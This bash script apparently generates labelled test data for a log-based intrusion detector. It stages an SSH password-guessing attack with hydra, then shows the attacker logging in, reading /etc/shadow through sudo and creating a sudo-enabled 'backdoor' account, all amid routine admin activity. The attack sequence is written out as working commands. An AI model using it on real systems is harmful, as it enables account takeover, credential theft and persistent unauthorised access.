#!/usr/bin/env bash
# Records a takeover: 198.51.100.7 guesses passwords over SSH until one fits, logs
# in, becomes root and leaves an account behind, while alice works as every day.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=room.sh
. "$(dirname "$0")/room.sh"
# shellcheck source-path=SCRIPTDIR source=people.sh
. "$(dirname "$0")/people.sh"

ATTACKER=198.51.100.7

prepare() {
    build_base
    open_room "$ROOM/base"
    cat >"$RUN/root/etc/rsyslog.d/10-traditional.conf" <<'CONF'
auth,authpriv.* action(type="omfile" file="/var/log/auth.traditional.log"
                       template="RSYSLOG_TraditionalFileFormat")
CONF
    mkdir -p "$RUN/root/var/log/journal"
    boot
    add_client attacker "$ATTACKER"
    add_client admin 10.20.0.5
    add_client backup 10.20.0.9
    add_person alice "$ALICE_PASSWORD" --groups sudo
    add_person backup-agent 'k9:Xy-77-quiet'
    add_person deploy "$DEPLOY_PASSWORD" --groups sudo
    printf '%s\n' root admin test oracle guest ubuntu deploy postgres >"$RUN/root/root/users"
    printf '%s\n' 123456 password admin root qwerty letmein welcome1 111111 \
        dragon monkey "$DEPLOY_PASSWORD" changeme >"$RUN/root/root/passwords"
    forget_preparation
}

ordinary_work() {
    by_key admin alice 'uptime; ls /var/log' >/dev/null
    sleep 2
    by_key backup backup-agent 'tar cf - .' >/dev/null
    sleep 3
    by_key admin alice "echo '$ALICE_PASSWORD' | sudo -S systemctl status cron" >/dev/null 2>&1
    sleep 2
}

guess() {
    from attacker hydra -I -t 4 -u -f -L /root/users -P /root/passwords "ssh://$MACHINE_IP" \
        >"$RUN/hydra" 2>&1 || true
    grep -q "login: deploy   password: $DEPLOY_PASSWORD" "$RUN/hydra" || die 'hydra found no password'
}

take_over() {
    by_password attacker deploy "$DEPLOY_PASSWORD" 'id; uname -a; cat /etc/passwd' >/dev/null
    sleep 4
    by_password attacker deploy "$DEPLOY_PASSWORD" -tt "
        p() { echo '$DEPLOY_PASSWORD'; }
        p | sudo -S -l; sleep 3
        p | sudo -S cat /etc/shadow; sleep 4
        p | sudo -S useradd -m -s /bin/bash backdoor; sleep 2
        p | sudo -S sh -c 'echo backdoor:letmein | chpasswd'; sleep 2
        p | sudo -S usermod -aG sudo backdoor; sleep 1
        exit" >/dev/null 2>&1
    sleep 3
    by_password attacker backdoor letmein -tt 'echo letmein | sudo -S id; exit' >/dev/null 2>&1
}

# label START TECHNIQUE: what has been done since START, for `tocsin backtest`.
label() {
    printf '{"entity":"ip:%s","start":"%s","end":"%s","technique":"%s"}\n' \
        "$ATTACKER" "$1" "$(now)" "$2" >>"$TESTDATA/takeover/labels.jsonl"
}

now() { date -u +%Y-%m-%dT%H:%M:%SZ; }

record() {
    local start
    mkdir -p "$TESTDATA/takeover"
    : >"$TESTDATA/takeover/labels.jsonl"
    ordinary_work
    start=$(now)
    guess
    label "$start" T1110.001
    ordinary_work
    start=$(now)
    take_over
    label "$start" T1078.003
    label "$start" T1548.003
    label "$start" T1136.001
    sleep 5
    ordinary_work
}

collect() {
    local log journal
    sleep 1
    machine journalctl --sync
    for log in auth.log auth.traditional.log wtmp btmp; do
        keep "/var/log/$log" "takeover/$log"
    done
    # The whole journal as a file; as JSON its last entries only, for they are long.
    machine sh -c 'journalctl --quiet -o json -n 160 SYSLOG_FACILITY=4 + SYSLOG_FACILITY=10 >/root/journal.json
                   journalctl --rotate'
    keep /root/journal.json takeover/takeover.journal.json
    journal=$(find "$RUN/root/var/log/journal" -name 'system@*.journal' -printf '%s %p\n' | sort -n | tail -1)
    compress "${journal#* }" takeover/takeover.journal.zst
    compress "$RUN/root/var/log/lastlog" takeover/lastlog.zst
}

# Both are mostly holes.
compress() {
    zstd -q -f -19 "$1" -o "$TESTDATA/$2"
    chmod 644 "$TESTDATA/$2"
}

prepare
record
collect
